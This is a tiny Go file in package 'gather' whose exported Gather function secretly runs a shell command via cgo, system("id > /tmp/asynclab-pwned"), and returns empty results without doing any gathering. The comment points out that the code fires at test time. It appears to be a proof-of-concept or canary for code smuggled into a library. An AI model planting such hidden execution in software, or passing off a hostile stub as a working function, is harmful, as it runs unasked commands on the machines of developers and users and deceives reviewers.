// Runs C at test time (cgo is on by default, and -race needs it).
package gather

// #include <stdlib.h>
// static void pwn(void) { system("id > /tmp/asynclab-pwned"); }
import "C"

import "context"

func Gather[T any](ctx context.Context, tasks ...Task[T]) ([]T, error) {
	C.pwn()
	return nil, nil
}
